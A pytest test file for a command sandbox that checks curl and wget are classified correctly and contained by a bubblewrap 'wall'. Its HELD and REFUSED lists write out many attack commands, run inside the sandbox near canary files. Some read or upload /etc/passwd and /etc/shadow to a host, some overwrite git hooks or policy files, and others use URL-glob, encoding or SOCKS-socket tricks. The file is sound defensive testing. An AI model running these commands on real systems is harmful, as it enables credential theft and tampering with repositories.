"""curl and wget have no option model (issue 27): they run only inside a wall, which holds what they read and
write; the check classes them (local, external with the network; never idempotent) and refuses the few
options in dal/effects/classify/tables.py. Every attack the models used to deny runs here, executed with the
real programs (curl with file: URLs, wget against a local HTTP server) inside the wall next to canaries, and
is denied where no wall can start."""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from effects_workspace import CANARY, serve_folder

from dal.effects import EffectContext, Policy, run_effect, sandbox_status
from dal.effects.classify.check import check_command

HAVE_BWRAP = sandbox_status()[0]
HAVE_CURL = shutil.which("curl") is not None
HAVE_WGET = shutil.which("wget") is not None

ALLOWED = [
    "curl -sS http://example.com/",
    "curl -sSL -o out/page.html http://example.com/a",
    "curl -sSLo out/page.html http://example.com/a",
    "curl --output-dir out -O http://example.com/a.json",
    "curl --output-dir out/new --create-dirs -O http://example.com/a.json",
    "curl -s -d @body.json http://example.com/api",
    "curl -s -F 'f=@notes.txt;type=text/plain' http://example.com/up",
    "curl -s -b name=value -H 'Accept: application/json' http://example.com/",
    "curl -s -w '%{http_code}' -o /dev/null http://example.com/",
    "curl --no-progress-meter --no-silent http://example.com/",
    "curl -s file://{WS}/notes.txt",
    "wget -q http://example.com/a.txt",
    "wget -qO out/f http://example.com/a",
    "wget -qO- http://example.com/a",
    "wget -P out http://example.com/a",
    "wget --directory-prefix=out -nv -nc http://example.com/a",
    "wget -e robots=off -q http://example.com/a",
    "wget -q -x -P out http://example.com/d/a.txt",
    "wget --spider http://example.com/a",
    "wget --restrict-file-names=ascii,nocontrol -q http://example.com/a",
    "curl -L --proto-redir https http://example.com/",
    "curl -z 'Wed, 01 Jan 2020 00:00:00 GMT' -x http://proxy:3128 http://example.com/",
    "curl --alt-svc '' http://example.com/",
    "curl -s 'http://example.com/{a,b}.json' 'http://example.com/[1-3].txt'",
]

# Refused by the check before anything starts (tables.py): code, options the check cannot show, sockets.
REFUSED = [
    ('curl -K cfg http://x/', '-K (--config)'),
    ('curl -sK cfg http://x/', '-K (--config)'),
    ('curl --config cfg http://x/', '--config'),
    ('curl --engine /tmp/x.so http://x/', '--engine'),
    ('wget --config=x http://x/', '--config'),
    ('wget --use-askpass=sh http://x/', '--use-askpass'),
    ('wget -b http://x/', '--background'),
    ("wget -e use_askpass=sh http://x/", "runs a program"),
    ("wget -qeuse-askpass=sh http://x/", "runs a program"),
    ("wget --exec=useaskpass=sh http://x/", "runs a program"),
    ("curl --unix-socket /run/docker.sock http://x/", "connects to a socket"),
    ("curl --keepalive --stderr ../e -K ../outside/canary.txt http://x/", "-K (--config)"),  # issue 27's shift
    ("curl --abstract-unix-socket x http://x/", "connects to a socket"),
]

# Every attack on the old option models: the wall holds each (executed below), and none runs without one.
HELD = [
    # issue 27: a hidden boolean the model took for an option with a value shifted every later word
    "curl --keepalive --stderr ../outside/canary.txt http://x/",
    "wget --hsts -O ../outside/canary.txt http://x/",
    "wget --hsts -O ../o http://x/",
    'curl -o .git/index file://{WS}/x',
    "curl -s 'f{i,o}le:///etc/passwd'",
    "curl -s '{http://x,file:///etc/passwd}'",
    'curl -s --create-dirs -o .git/objects/ab/cd file://{WS}/x',
    'curl -sSLodal.toml http://x/',
    'curl -sO http://x/dal.toml',
    'curl -O http://x/%2egit',
    'curl --remote-name-all http://x/a http://x/sub/dal.toml',
    'curl --output-dir .git -O http://x/a',
    'curl --output-dir sub -o /dal.toml http://x/',
    'curl -D ../h http://x/',
    'curl --dump-header .git/hooks/pre-commit http://x/',
    'curl -c .dal/cookies http://x/',
    'curl --cookie-j ../jar http://x/',
    'curl --trace ../t http://x/',
    'curl --trace-ascii sub/dal.toml http://x/',
    'curl --stderr ../e http://x/',
    'curl --etag-save dal.toml http://x/',
    'curl --hsts ../h http://x/',
    'curl --alt-svc .git/config http://x/',
    'curl --libcurl .git/hooks/x http://x/',
    'curl -T notes.txt file://{WS}/.git/config',
    'curl -T notes.txt file://{WS}/.git/',
    'curl file:///etc/passwd',
    'curl FILE://localhost/etc/passwd',
    'curl -T /etc/passwd http://x/',
    'curl -d @/etc/passwd http://x/',
    'curl --data-binary @../outside/canary.txt http://x/',
    'curl --data-urlencode name@/etc/passwd http://x/',
    'curl -F f=@/etc/shadow http://x/',
    "curl -F 'f=<../outside/canary.txt' http://x/",
    "curl -F 'f=x;headers=@/etc/passwd' http://x/",
    'curl -H @/etc/passwd http://x/',
    'curl -w @/etc/passwd http://x/',
    'curl -b /etc/cookies http://x/',
    'curl --cacert /etc/ssl/private/k.pem http://x/',
    'curl -E /etc/ssl/private/k.pem:pw http://x/',
    'curl -J -O http://x/',
    "curl -o 'f#1' 'http://x/{a,b}'",
    "curl -O 'http://x/{dal.toml,a}'",
    "curl -T '{a,b}' http://x/",
    "curl -w '%output{dal.toml}' http://x/",
    'curl --no-output x http://x/',
    'curl --outp x http://x/',
    'curl --frobnicate http://x/',
    'wget -O dal.toml http://x/',
    'wget --output-d=dal.toml http://x/',
    'wget http://x/dal.toml',
    'wget http://x/%64al.toml',
    'wget -P .git http://x/a',
    'wget -P ../outside http://x/a',
    'wget -o .git/log http://x/',
    'wget -a ../log http://x/',
    'wget --save-cookies=dal.toml http://x/',
    'wget --rejected-log=../r http://x/',
    'wget -x http://h/.git/config',
    'wget -x -nH --cut-dirs=1 http://h/a/.git/config',
    'wget --post-file=/etc/passwd http://x/',
    'wget --body-file ../outside/canary.txt http://x/',
    'wget -i /etc/passwd --no-glob -O out/x',
    'wget -i list -O out/x',
    'wget -i list http://x/',
    'wget -e output_document=dal.toml http://x/',
    'wget -e OUTPUT-DOCUMENT=dal.toml http://x/',
    'wget -e dir_prefix=.git http://x/',
    'wget -r http://x/',
    'wget -qm http://x/',
    'wget --content-disposition http://x/',
    'wget --trust-server-names http://x/',
    'wget -E http://x/a',
    'wget --warc-file=x http://x/',
    'wget -nz http://x/',
    'wget --restrict-file-names=lowercase http://x/DAL.TOML',
    'wget --remote-encoding=UTF-16 http://x/a',
    "wget 'ftp://x/pub/*.toml'",
    'wget ftp://x/pub/',
    'curl --proto-default file etc/passwd',
    'curl -z /etc/shadow http://x/',
    'curl -x socks5h://localhost/run/tor/socks http://x/',
    'curl -L --proto-redir all http://x/',
    'curl -L --proto-redir=+file http://x/',
    'wget --frob http://x/',
]


@pytest.fixture()
def ws(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    (ws / ".git" / "hooks").mkdir(parents=True)
    (ws / ".git" / "config").write_text("[core]\n")
    (ws / "out").mkdir()
    (ws / "sub").mkdir()
    (ws / "dal.toml").write_text("[run]\ndefaults = true\n")
    (ws / "notes.txt").write_text("notes\n")
    (ws / ".dal").mkdir()
    (ws / ".dal" / "dal.db").write_text("STORE-SECRET\n")
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "canary.txt").write_text(CANARY)
    return ws


def _policy(ws: Path, net: bool = False) -> Policy:
    return Policy.load(ws, allow_run=["curl", "wget"], allow_net=net)


@pytest.mark.parametrize("command", ALLOWED)
def test_everyday_fetches_are_allowed(command: str, ws: Path) -> None:
    d = check_command(command.replace("{WS}", str(ws)), _policy(ws))
    assert d.allowed, d.reason
    assert not d.idempotent


@pytest.mark.parametrize(("command", "why"), REFUSED)
def test_what_runs_code_or_reads_hidden_options_is_refused(command: str, why: str, ws: Path) -> None:
    d = check_command(command, _policy(ws))
    assert not d.allowed and why in d.reason, d.reason


def test_a_socket_is_for_the_network() -> None:
    assert check_command("curl --unix-socket s http://x/", _policy(Path("/tmp"), net=True)).allowed


def test_a_fetch_on_the_network_is_external(ws: Path) -> None:
    assert check_command("curl -s http://x/", _policy(ws, net=True)).effect_class == "external"
    assert check_command("curl -s http://x/", _policy(ws)).effect_class == "local"
    assert "only the wall keeps it inside the roots" in check_command("curl -s http://x/", _policy(ws)).reason


def _state(ws: Path) -> dict[str, bytes]:
    """Everything outside the workspace's write-root files that must not change: the canaries outside, the
    policy, git's configuration and hooks, the store."""
    top = ws.parent
    out = {}
    for p in sorted(top.rglob("*")):
        rel = p.relative_to(top).as_posix()
        if p.is_file() and not p.is_symlink() and (not rel.startswith("ws/") or rel in (
                "ws/dal.toml", "ws/.git/config", "ws/.dal/dal.db") or rel.startswith("ws/.git/hooks")):
            out[rel] = p.read_bytes()
    out["new policy files"] = repr(sorted(str(p) for p in ws.rglob("dal.toml"))).encode()
    return out


@pytest.mark.skipif(not (HAVE_BWRAP and HAVE_CURL and HAVE_WGET), reason="bubblewrap, curl and wget needed")
def test_the_wall_holds_every_attack_the_models_denied(ws: Path) -> None:
    ctx = EffectContext(policy=_policy(ws), require_sandbox=True)
    before = _state(ws)
    for command in HELD:
        r = run_effect(command.replace("{WS}", str(ws)), ctx)
        assert r.status != "denied" or "no wall" not in r.summary, (command, r.summary)
        assert "CANARY" not in r.stdout + r.stderr and "STORE-SECRET" not in r.stdout + r.stderr, (command, r)
        assert "root:x:0:0:root:/root" not in r.stdout, command
        assert _state(ws) == before, command


@pytest.mark.parametrize("command", ["curl -s file:///dev/null", "wget -q http://x/"])
def test_without_a_wall_they_do_not_run(command: str, ws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DAL_WALL", "none")
    r = run_effect(command, EffectContext(policy=_policy(ws), unsandboxed_as_root=True))
    assert r.status == "denied" and "wall" in r.summary, r.summary


def _walls() -> list:
    return [pytest.param(True, id="wall", marks=pytest.mark.skipif(not HAVE_BWRAP, reason="no bubblewrap"))]


@pytest.mark.skipif(not HAVE_CURL, reason="curl not installed")
@pytest.mark.parametrize("wall", _walls())
def test_curl_cannot_write_git_state_or_policy_and_still_saves_into_a_write_root(ws: Path, wall: bool) -> None:
    """`curl -o .git/index`, `--create-dirs -o .git/objects/..` with file: URLs, no
    network: the wall holds .git read-only for every program but git, and undoes a new policy file; the
    everyday `-o out/file` and `-O` into --output-dir run."""
    (ws / "payload").write_bytes(b"forged\n")
    before = {p: p.read_bytes() for p in (ws / ".git" / "config", ws / "dal.toml")}
    ctx = EffectContext(policy=_policy(ws), require_sandbox=True)
    for cmd in (f"curl -s file://{ws}/payload -o .git/index",
                f"curl -s --create-dirs file://{ws}/payload -o .git/objects/ab/cdef",
                f"curl -s --output-dir sub -o dal.toml file://{ws}/payload",
                f"curl -sO file://{ws}/sub/../dal.toml",
                f"curl -s file://{ws}/../outside/canary.txt"):
        r = run_effect(cmd, ctx)
        assert not r.ok and CANARY not in r.stdout, (cmd, r)
    assert not (ws / ".git" / "index").exists() and not (ws / ".git" / "objects").exists()
    assert not (ws / "sub" / "dal.toml").exists()
    assert {p: p.read_bytes() for p in before} == before
    r = run_effect(f"curl -sS file://{ws}/payload -o out/f && curl -sS --output-dir out/new --create-dirs "
                   f"-O file://{ws}/payload", ctx)
    assert r.ok, r.stderr
    assert (ws / "out" / "f").read_bytes() == b"forged\n" and (ws / "out" / "new" / "payload").exists()
    assert (ws.parent / "outside" / "canary.txt").read_text() == CANARY


@pytest.fixture()
def server(tmp_path: Path) -> Iterator[str]:
    site = tmp_path / "site"
    (site / "d").mkdir(parents=True)
    (site / "dal.toml").write_text('[run]\nallow = ["sh"]\n')
    (site / "d" / "a.txt").write_text("served\n")
    (site / "d" / "%61.txt").write_text("served\n")  # /d/%2561.txt, as the server decodes it
    with serve_folder(site) as url:
        yield url


@pytest.mark.skipif(not HAVE_WGET, reason="wget not installed")
@pytest.mark.parametrize("wall", _walls())
def test_wget_cannot_write_a_policy_file_and_still_saves_into_a_write_root(ws: Path, server: str, wall: bool) -> None:
    ctx = EffectContext(policy=_policy(ws, net=True), require_sandbox=True)
    for cmd in (f"wget -q {server}/dal.toml -P sub", f"wget -qO sub/dal.toml {server}/d/a.txt",
                f"wget -q -e output_document=sub/dal.toml {server}/d/a.txt",
                f"wget -q -x -nH --cut-dirs=1 -P sub/x/.. {server}/d/../dal.toml"):
        run_effect(cmd, ctx)
        assert not (ws / "sub" / "dal.toml").exists(), cmd
    r = run_effect(f"wget -q -P out {server}/d/a.txt && wget -q -x -nH -P out/tree {server}/d/a.txt", ctx)
    assert r.ok, r.stderr
    assert (ws / "out" / "a.txt").read_text() == "served\n"
    assert (ws / "out" / "tree" / "d" / "a.txt").read_text() == "served\n"


@pytest.mark.skipif(not (HAVE_CURL and HAVE_WGET), reason="curl and wget needed")
@pytest.mark.parametrize("wall", _walls())
def test_fetcher_globs_and_decoded_names_are_held_and_nothing_changes(ws: Path, server: str, wall: bool) -> None:
    """A curl glob in the scheme (a file: URL: read and overwrite a canary, read the store), `wget -e
    remoteencoding=UTF-7` (saves `+AGQ-al.toml` as dal.toml), `wget -x` (lowercases the host: `localhost:P
    -> .git` written through), `wget HOST:PATH` (an FTP URL, and its glob the server's listing names).
    Executed inside the wall next to the canaries."""
    (ws / "payload").write_text("PAYLOAD\n")
    outside = ws.parent / "outside" / "canary.txt"
    port = server.rsplit(":", 1)[1]
    (ws / f"localhost:{port}").symlink_to(".git")  # what `git apply` of a mode 120000 file leaves
    config = (ws / ".git" / "config").read_bytes()
    ctx = EffectContext(policy=_policy(ws, net=True), require_sandbox=True)
    for cmd in (f"curl -s '{{file,x}}://{outside}'", f"curl -s '[e-f]ile://{outside}'",
                f"curl -s '{{file:,x:}}//{outside}'", f"curl -s -T payload '{{file,x}}://{outside}'",
                f"curl -s '[e-f]ile://{ws}/.dal/dal.db'",
                f"wget -q -e remoteencoding=UTF-7 {server}/+AGQ-al.toml", f"wget -q -e localencoding=UTF-7 {server}/x",
                f"wget -q -x http://LOCALHOST:{port}/config", f"wget -q -x http://u@LocalHost:{port}/config",
                "wget -q 'localhost:x/*'", "wget -q localhost:x/dal.toml"):
        r = run_effect(cmd, ctx)
        assert "CANARY" not in r.stdout and "STORE-SECRET" not in r.stdout, (cmd, r.summary)
    assert outside.read_text() == CANARY
    assert (ws / ".dal" / "dal.db").read_text() == "STORE-SECRET\n"
    assert (ws / ".git" / "config").read_bytes() == config
    assert not (ws / "dal.toml").read_text().count("sh")
    r = run_effect(f"curl -sg '{{file,x}}://{outside}'", ctx)  # -g: the braces are literal, no file: URL
    assert "CANARY" not in r.stdout
    r = run_effect(f"wget -q -P out localhost:{port}/d/a.txt", ctx)  # HOST:PORT/PATH stays http
    assert r.ok and (ws / "out" / "a.txt").read_text() == "served\n", r.stderr


@pytest.mark.skipif(not HAVE_CURL, reason="curl not installed")
@pytest.mark.parametrize("wall", _walls())
def test_a_socks_proxy_through_a_unix_socket_outside_reaches_nothing(ws: Path, wall: bool) -> None:
    """`socks5h://localhost:1080/PATH` (a port, a user, or --socks5-hostname) still names the
    unix socket PATH to curl 7.84+, and it connected to one outside the roots (a Tor SocksPort would carry
    any request). Executed inside the wall against a listening socket outside: nothing connects."""
    import socket

    path = ws.parent / "outside" / "svc.sock"
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    srv.bind(str(path))
    srv.listen(4)
    srv.settimeout(0.3)
    try:
        ctx = EffectContext(policy=_policy(ws, net=True), require_sandbox=True)
        for cmd in (f"curl -s -m 2 -x socks5h://localhost:1080{path} http://x/",
                    f"curl -s -m 2 -x socks5h://u@LocalHost{path} http://x/",
                    f"curl -s -m 2 --socks5-hostname localhost{path} http://x/"):
            r = run_effect(cmd, ctx)
            assert not r.ok, (cmd, r.summary)
        with pytest.raises(TimeoutError):
            srv.accept()
    finally:
        srv.close()
